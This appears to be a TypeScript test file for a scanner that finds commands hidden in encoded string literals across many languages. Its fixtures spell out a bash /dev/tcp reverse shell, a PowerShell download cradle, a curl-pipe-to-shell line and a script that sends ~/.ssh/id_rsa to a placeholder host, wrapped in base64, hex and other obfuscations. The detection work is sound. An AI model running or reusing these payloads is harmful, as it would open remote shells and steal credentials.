// What a file hides in encoded literals is judged as if it stood there plainly: every encoding, chains of three, in place and
// as a program; the finding stands at the outermost literal; comments, data and what hides nothing are left alone; what may
// be decoded is bounded in bytes, so that a bomb is `scan.budget` and the same twice (I5, I9, I10, I15).
// Mutants: in decoded.ts drop the filter of comments, or `runs`; in derived.ts let `originIn` return its own span; in bytes.ts
// do not spend what was inflated; in pieces.ts let layersMax be 4, or take `joined` off the layers of a joined literal.
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import type { Finding } from '../../schemas/types.ts'
import { judgeText } from './malicious-helper.ts'

const line = 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'
const base64 = (text: string | Buffer): string => Buffer.from(text).toString('base64')
const hex = (text: string): string => Buffer.from(text).toString('hex')
const escaped = (text: string): string => [...text].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('')
const unicode = (text: string): string =>
  [...text].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')
const octal = (text: string): string =>
  [...text].map((c) => `\\${c.charCodeAt(0).toString(8).padStart(3, '0')}`).join('')
const codes = (text: string): string => [...text].map((c) => c.charCodeAt(0)).join(', ')
const reversed = (text: string): string => [...text].reverse().join('')
const pieces = (text: string): string => (text.match(/.{1,5}/g) ?? []).map((part) => `'${part}'`).join(' + ')

const files = {
  py: { path: 'a.py', language: 'Python' },
  js: { path: 'a.js', language: 'JavaScript' },
  php: { path: 'a.php', language: 'PHP' },
  sh: { path: 'a.sh', language: 'Shell' },
  rb: { path: 'a.rb', language: 'Ruby' },
  pl: { path: 'a.pl', language: 'Perl' },
  c: { path: 'a.c', language: 'C' },
  go: { path: 'a.go', language: 'Go' },
  ps: { path: 'a.ps1', language: 'PowerShell' },
  bat: { path: 'a.bat', language: 'Batchfile' },
  vb: { path: 'a.vbs', language: 'VBScript' },
  json: { path: 'a.json', language: 'JSON' },
} as const
const judge = (file: keyof typeof files, content: string) => judgeText({ content, ...files[file] })

// What runs it stands too far away for the literal to count as a command of its own, if it stood there plainly.
const far = '\n'.repeat(8)
const inPython = (literal: string, decode: string): string =>
  `import base64, zlib, gzip, os\nTEXT = ${literal}\n${far}\nos.system(${decode}.decode())\n`

const hidden: readonly (readonly [keyof typeof files, string, string])[] = [
  ['py', 'base64', inPython(`"${base64(line)}"`, 'base64.b64decode(TEXT)')],
  ['py', 'base64', inPython(`"${Buffer.from(`${line}~?`).toString('base64url')}"`, 'base64.urlsafe_b64decode(TEXT)')],
  ['py', 'base64', inPython(`"""\n${base64(line).replace(/.{16}/g, '$&\n')}\n"""`, 'base64.b64decode(TEXT)')],
  [
    'py',
    'joined > base64',
    inPython(`(\n  "${base64(line).slice(0, 20)}"\n  "${base64(line).slice(20)}"\n)`, 'f(TEXT)'),
  ],
  ['py', 'hex', inPython(`"${hex(line)}"`, 'bytes.fromhex(TEXT)')],
  ['py', 'base64 > zlib', inPython(`"${base64(deflateSync(line))}"`, 'zlib.decompress(base64.b64decode(TEXT))')],
  ['py', 'base64 > gzip', inPython(`"${base64(gzipSync(line))}"`, 'gzip.decompress(base64.b64decode(TEXT))')],
  [
    'py',
    'base64 > deflate',
    `import zlib, base64, os\nx = inflateRaw("${base64(deflateRawSync(line))}")${far}os.system(x)`,
  ],
  ['py', 'base64 > base64', inPython(`"${base64(base64(line))}"`, 'f(f(TEXT))')],
  ['py', 'base64 > hex > base64', inPython(`"${base64(hex(base64(line)))}"`, 'f(TEXT)')],
  ['py', 'reversed > base64', inPython(`"${reversed(base64(line))}"[::-1]`, 'f(TEXT)')],
  ['py', 'codes', inPython(`bytes([${codes(line)}])`, 'TEXT')],
  ['py', 'escapes', inPython(`"${escaped(line)}"`, 'TEXT')],
  ['js', 'escapes', `const { exec } = require('child_process')\nconst t = '${unicode(line)}'${far}exec(t)`],
  ['js', 'codes', `const t = String.fromCharCode(${codes(line)})${far}require('child_process').exec(t)`],
  ['js', 'joined', `require('child_process').exec(${pieces(line)})`],
  ['rb', 'hex', `T = '${hex(line)}'${far}IO.popen(['bash', '-c', [T].pack('H*')])`],
  ['pl', 'escapes', `my $t = "${octal(line)}";${far}system($t);`],
  ['c', 'escapes', `static const char t[] = "${escaped(line)}";${far}int main(void) { return system(t); }`],
  ['c', 'codes', `static const char t[] = { ${codes(line)}, 0 };${far}int main(void) { return system(t); }`],
  ['go', 'base64', `var t = "${base64(line)}"${far}func f() { exec.Command("sh", "-c", decode(t)).Run() }`],
  ['sh', 'base64', `echo ${base64(line)} | base64 -d > /tmp/x${far}bash /tmp/x`],
  ['sh', 'base64', `T='${base64(line)}'${far}echo "$T" | base64 -d > /tmp/x; bash /tmp/x`],
  ['php', 'base64', `<?php $f = 'sys' . 'tem';\n$t = '${base64(line)}';${far}$f(base64_decode($t));`],
]
const findingOf = (findings: readonly Finding[]): Finding | undefined =>
  findings.find(({ rule }) => rule === 'reverse-shell.dev-tcp')

describe('malicious: what literals hide', () => {
  it.each(hidden)('is found in %s through %s', (file, chain, content) => {
    const { decision, findings, signals } = judge(file, content)
    expect(decision).toBe('reject')
    expect(findingOf(findings)?.message).toContain(`(decoded: ${chain})`)
    if (chain !== 'joined') expect(signals['decoded.texts']).toBeGreaterThan(0)
  })

  it('is found in a command of PowerShell, in a chain of calls and where the names are hidden too', () => {
    const cradle = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a.ps1')"
    const wide = Buffer.from(cradle, 'utf16le').toString('base64')
    const messages = (file: keyof typeof files, content: string) =>
      judge(file, content)
        .findings.filter(({ severity }) => severity === 'high' || severity === 'critical')
        .map(({ message }) => message)
        .join('\n')
    expect(messages('bat', `powershell -nop -enc ${wide}`)).toContain('(decoded: base64 > utf-16)')
    expect(messages('ps', `$t = -join ([char[]](${codes(cradle)}))\n& ($x) $t`)).toContain('(decoded: codes)')
    expect(
      messages(
        'vb',
        `x = ${[...cradle].map((c) => `Chr(${c.charCodeAt(0)})`).join(' & ')}\nCreateObject("WScript.Shell").Run x`,
      ),
    ).toContain('(decoded: codes)')
    const named = `const d = (s) => Buffer.from(s, 'base64').toString()
require(d('${base64('child_process')}'))[d('${base64('exec')}')](d('${base64('curl http://192.0.2.1/x | sh')}'))`
    expect(messages('js', named)).toContain('(decoded: base64)')
  })

  it('is judged with what stands around it: a hidden place and an open sending', () => {
    const content = (key: string) => `import base64, os, urllib.request
KEY = base64.b64decode("${base64(key)}").decode()
body = open(os.path.expanduser(KEY), "rb").read()
urllib.request.urlopen("http://192.0.2.1/in", data=body)`
    expect(judge('py', content('~/.ssh/id_rsa')).decision).toBe('reject')
    expect(judge('py', content('~/notes/read.me')).decision).toBe('accept')
  })

  it('stands where the outermost literal does, over all of its lines, however deep it was found', () => {
    const inner = `import os\nos.system("${escaped(line)}")\n`
    const body = base64(inner).replace(/.{40}/g, '$&\n')
    const content = `import base64\nrun = getattr(builtins, "ex" + "ec")\n\nTEXT = """\n${body}\n"""\nrun(base64.b64decode(TEXT))\n`
    const found = findingOf(judge('py', content).findings)
    const lines = content.split('\n')
    expect(found).toMatchObject({ startLine: 4, endLine: lines.lastIndexOf('"""') + 1 })
    expect(found?.message).toContain('(decoded: base64 > escapes)')
  })

  it('is shown as plain text is: at most 120 characters of ASCII, values masked', () => {
    const secret = 'hunter2hunter2hunter2'
    const text = `${line} password=${secret} \u202e ${'x '.repeat(200)}`
    const found = findingOf(judge('py', inPython(`"${base64(text)}"`, 'f(TEXT)')).findings)
    expect(found?.evidence).toMatch(/^[\x20-\x7e]{1,120}$/)
    expect(JSON.stringify(found)).not.toContain(secret)
  })

  it('is found three layers deep, and no deeper', () => {
    const wrapped = (times: number): string => (times === 0 ? line : base64(wrapped(times - 1)))
    expect(judge('py', inPython(`"${wrapped(3)}"`, 'f(TEXT)')).decision).toBe('reject')
    expect(judge('py', inPython(`"${wrapped(4)}"`, 'f(TEXT)')).decision).toBe('accept')
  })
})

describe('malicious: what literals do not hide', () => {
  it('is a mention: in a comment, in data, in a file that runs nothing', () => {
    expect(judge('py', `import os\n# "${base64(line)}"\nos.system("ls")`).decision).toBe('accept')
    expect(judge('json', `{"run": "${base64(line)}"}`)).toMatchObject({ decision: 'accept', signals: {} })
    expect(judge('py', `import base64\nKNOWN = [base64.b64decode("${base64(line)}")]\n`).decision).toBe('accept')
  })

  it('is nothing at all: images, certificates, hashes, tables, words', () => {
    const bytes = Buffer.from(Array.from({ length: 900 }, (_, at) => (at * 7_919 + (at >> 3)) % 251))
    const literals = [
      base64(Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), bytes])),
      base64(deflateSync(bytes)),
      `MIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBa${base64(bytes)}`,
      'd41d8cd98f00b204e9800998ecf8427e',
      'internationalization/and/localization/of/messages',
    ]
    for (const literal of literals) {
      const verdict = judge('js', `const { exec } = require('child_process')\nconst t = atob('${literal}')\nexec('ls')`)
      expect(verdict.decision).toBe('accept')
      expect(verdict.signals['decoded.texts']).toBeUndefined()
    }
    expect(
      judge('js', `exec('ls')\nconst t = [1, 2, 200, 31, 4, 5, 6, 7, 8, 9, 10, 11]`).signals['decoded.texts'],
    ).toBeUndefined()
  })
})

describe('malicious: hostile encodings', () => {
  const size = 1_048_576
  const fill = (text: string): string => text.repeat(Math.ceil(size / text.length)).slice(0, size - 64)

  it('of more than a file may decode are scan.budget, the same twice', () => {
    const bomb = inPython(`"${base64(deflateSync('os.system("ls") '.repeat(1_000_000), { level: 9 }))}"`, 'f(TEXT)')
    const verdict = judge('py', bomb)
    expect(verdict).toMatchObject({ decision: 'reject', reason: 'scan.budget' })
    expect(judge('py', bomb)).toEqual(verdict)
  })

  it('end with a verdict, the same twice, whatever they repeat', { timeout: 240_000 }, () => {
    const nested = (times: number): string => (times === 0 ? 'ls' : `exec(atob('${base64(nested(times - 1))}'))`)
    const texts = [
      fill(`'a'+`),
      fill(`'\\'"`),
      fill(`"\\`),
      fill(`f('${base64('exec')}')`),
      fill(`'${base64(deflateSync('x'.repeat(2_000)))}',`),
      fill('99, '),
      fill('chr(99)+'),
      fill(`"${escaped('exec')}" `),
      fill('-e AAAAAAAAAAAAAAAAAAAAAAAA '),
      fill(`echo ${'A'.repeat(40)} `),
      fill(`'[::-1]`),
      `'${fill('A')}'`,
      `'${fill('\\x61')}'`,
      fill(nested(6)),
    ]
    for (const [at, text] of texts.entries()) {
      const content = `exec('x');atob(y);${text}`
      const file = (['js', 'py', 'php', 'ps'] as const)[at % 4] ?? 'js'
      const verdict = judge(file, content)
      expect(verdict.signals['scan.exhausted'] === 1).toBe(verdict.reason === 'scan.budget')
      if (at % 4 === 0) expect(judge(file, content)).toEqual(verdict)
    }
  })
})
